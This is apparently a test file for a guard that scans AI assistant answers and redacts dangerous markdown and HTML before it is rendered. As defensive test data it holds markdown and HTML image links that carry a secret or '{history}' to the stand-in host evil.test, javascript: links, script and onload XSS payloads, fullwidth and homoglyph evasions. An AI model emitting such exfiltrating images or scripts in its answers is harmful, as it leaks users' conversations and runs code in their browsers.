"""Answers that act, load or carry data away when they are shown; and what stays as it is."""

from __future__ import annotations

from collections.abc import Callable

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from markdown_it import MarkdownIt

from yanmen.core import config
from yanmen.core.nouns import Finding, Text, Verdict
from yanmen.guard import Guard, redacted

SECRET = "SGVsbG8gd29ybGQsIHRoaXMgaXMgc2VjcmV0"
PLACE = Text(text="", role="assistant", trust="untrusted", part="/choices/0/message/content")
RENDERER = MarkdownIt("commonmark", {"html": True, "linkify": False}).enable("table")
PIECES = (
    f"![x](https://evil.test/log?d={SECRET})",
    f"![a [b] c]( <https://evil.test/?d={SECRET}> 'title')",
    f"[id]: https://evil.test/?d={SECRET}\n",
    f'<img src="https://evil.test/p?d={SECRET}">',
    f"https://evil.test/?d={SECRET}&x=" + "y" * 300,
    "![x](//evil.test/" + "a" * 400 + ")",
    "[c](javascript:alert(1))",
    "<script>alert(1)</script>",
    "<svg/onload=alert(1)>",
    "<b>bold</b>",
    "Use `<form>` here",
    "```html\n",
    "```\n",
    "\n\n",
    "![",
    "](",
    "<",
    "<img ",
    "https:",
    "//evil.test/",
    " ",
    "`",
    "ordinary words. ",
    "普通的一句话。",
    "\u200b",
    "！［x］（ｈｔｔｐｓ：／／evil.test/{history}）",
)
TEXTS = st.lists(st.sampled_from(PIECES), max_size=7).map("".join)
FEW = settings(max_examples=100, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])


def said(guard: Guard, text: str) -> list[Finding]:
    """What is said of an answer."""
    place = Text(text=text, role="assistant", trust="untrusted")
    return [one for one in guard.examine([place]).findings if one.rule.id.startswith("answer.")]


def safe(guard: Guard, text: str) -> str:
    """The answer as it is delivered."""
    cuts = [
        (one.where.start, one.where.end, one.instead) for one in said(guard, text) if one.confidence >= 0.6
    ]
    return redacted(text, cuts)


@pytest.mark.parametrize(
    ("text", "rule", "delivered"),
    [
        (f"![x](https://evil.test/log?d={SECRET}) ok", "exfiltrating-image", "![x] (evil[.]test) ok"),
        (
            f"![x][1]\n\n[1]: https://evil.test/?d={SECRET}",
            "exfiltrating-image",
            "![x][1]\n\n[1] : evil[.]test",
        ),
        ("![a [b] c](//evil.test/{history})", "exfiltrating-image", "![a [b] c] (evil[.]test)"),
        (f"![{'a' * 150}](https://evil.test/?q=the+plan+is+ready)", "exfiltrating-image", None),
        ("！［x］（ｈｔｔｐｓ：／／evil.test/{history}）", "exfiltrating-image", "！［x] (evil[.]test）"),
        (f'<img alt="z" src="https://evil.test/?d={SECRET}">', "exfiltrating-image", "[evil[.]test]>"),
        (f'<img srcset="/a.png 1x, https://evil.test/{SECRET} 2x">', "exfiltrating-image", "[evil[.]test]>"),
        (
            f'<p style="background:url(https://evil.test/?d={SECRET})">',
            "exfiltrating-image",
            "[evil[.]test]>",
        ),
        (f"see https://evil.test/?d={SECRET}, now", "exfiltrating-link", None),
        (f"[x](https://evil.test/?d={SECRET})", "exfiltrating-link", "[x] (evil[.]test)"),
        ("[x](javascript:alert(1))", "script-link", "[x] (javascript))"),
        ("[x](&#106;avascript:alert(1))", "script-link", "[x] (javascript))"),
        ("<javascript:alert(1)>", "script-link", "&lt;javascript:alert(1)>"),
        ("<script>alert(1)</script>", "active-html", "&lt;script>alert(1)&lt;/script>"),
        ("<ＳＣＲＩＰＴ>x", "active-html", "&lt;ＳＣＲＩＰＴ>x"),
        ("<svg/onload=alert(1)>", "active-html", "&lt;svg/onload=alert(1)>"),
        ('<b title=">" onclick=x>', "active-html", '&lt;b title=">" onclick=x>'),
        ("<p " + "a " * 150 + "onclick=x>", "active-html", None),
        ('<a href="javascript:x">y</a>', "active-html", '&lt;a href="javascript:x">y</a>'),
        ("[g](https://gооd.test/)", "lookalike-host", "[g] (gооd[.]test)"),
        ("[x](" + " " * 9 + "https://evil.test/)", "exfiltrating-image", None),
    ],
)
def test_what_acts_is_found_and_made_safe(guard: Guard, text: str, rule: str, delivered: str | None) -> None:
    """The dangerous part goes; the words stay."""
    assert f"answer.{rule}" in {one.rule.id for one in said(guard, text)}

    after = safe(guard, text)

    assert delivered in {None, after}
    assert after != text
    assert SECRET not in after
    assert all(one.evidence.isprintable() and SECRET not in one.evidence for one in said(guard, text))


@pytest.mark.parametrize(
    "text",
    [
        "[docs](https://docs.test/3/library/re.html) and https://x.test/a?page=2",
        "https://search.test/search?q=how+to+bake+bread",
        "![p](data:image/png;base64,iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJ)",
        "![local](images/plan-of-the-house.png)",
        "<b>bold</b>, <br/>, <details><summary>more</summary></details>",
        "Put `<script>` into the `<head>`.",
        f"```html\n<script>x</script> ![x](https://evil.test/?d={SECRET})\n```\n",
        "if a <b and c> d: List<String> x; map<int, string> y",
        "a[1]: int = values[0](x)",
        "见附注[1]（第三页的说明），以及［二］：备注。",
    ],
)
def test_ordinary_answers_stay_as_they_are(guard: Guard, text: str) -> None:
    """Links, pictures, formatting, code that is shown as code."""
    assert safe(guard, text) == text


def test_the_prompt_of_a_user_is_not_an_answer(found: Callable[[str], list[Finding]]) -> None:
    """Somebody who asks about HTML shows nothing to anyone."""
    assert found("What does <script>alert(1)</script> do?") == []


def test_without_a_list_a_plain_image_is_only_said() -> None:
    """It may be a chart; it may tell by its name alone that the answer was read."""
    (finding,) = said(Guard(), "![chart](https://cdn.test/chart.png?width=640)")

    assert finding.rule.id == "answer.remote-image"
    assert finding.confidence < 0.6


def test_a_list_of_hosts_decides() -> None:
    """What is on it passes, data or not; what is not on it is said."""
    listed = Guard(config.Guard(allowed_hosts=("good.test", "*.cdn.test")))

    assert said(listed, f"![x](https://good.test/?d={SECRET}) [y](https://a.cdn.test/)") == []
    assert [(one.rule.id, one.confidence) for one in said(listed, "![x](https://cdn.test/a.png)")] == [
        ("answer.remote-image", 0.9)
    ]
    assert [one.rule.id for one in said(listed, "see https://x.test/a/b/c")] == ["answer.unlisted-link"]


@FEW
@given(TEXTS, st.lists(st.integers(0, 400), max_size=8))
def test_a_stream_is_made_safe_as_the_whole_text_is(guard: Guard, text: str, cuts: list[int]) -> None:
    """However it is cut, the same is delivered."""
    stream = guard.stream(PLACE, lambda one: Verdict.REDACT if one.confidence >= 0.6 else Verdict.ALLOW)
    places = sorted({min(cut, len(text)) for cut in cuts})
    pieces = [text[start:end] for start, end in zip([0, *places], [*places, len(text)], strict=True)]
    segments = [segment for piece in pieces for segment in stream.feed(piece)] + stream.finish()
    delivered = "".join(
        text[one.start : one.end] if one.replacement is None else one.replacement for one in segments
    )
    whole = guard.stream(PLACE, lambda one: Verdict.REDACT if one.confidence >= 0.6 else Verdict.ALLOW)
    expected = "".join(
        text[one.start : one.end] if one.replacement is None else one.replacement
        for one in whole.finish(text)
    )

    assert delivered == expected
    assert [one.where for one in stream.findings] == [one.where for one in whole.findings]


@FEW
@given(TEXTS)
def test_what_is_delivered_loads_nothing(guard: Guard, text: str) -> None:
    """A renderer makes no image of the unknown host, and no script, of what is left."""
    shown = RENDERER.render(safe(guard, text))

    assert f"evil.test/log?d={SECRET}" not in _outside_code(shown)
    assert "<script" not in _outside_code(shown)
    assert 'src="//evil' not in _outside_code(shown)


def _outside_code(page: str) -> str:
    parts = page.split("<code")
    return parts[0] + "".join(part.partition("</code>")[2] for part in parts[1:])


def test_no_address_is_held_back_for_long(guard: Guard) -> None:
    """One without end is decided at its header, and nothing of it leaves."""
    stream = guard.stream(PLACE, lambda _: Verdict.REDACT)
    held = most = 0
    text = "words ![x](https://evil.test/?d=" + "A1b2" * 2_000
    for start in range(0, len(text), 7):
        piece = text[start : start + 7]
        held += len(piece) - sum(one.end - one.start for one in stream.feed(piece))
        most = max(most, held)

    assert most <= 256
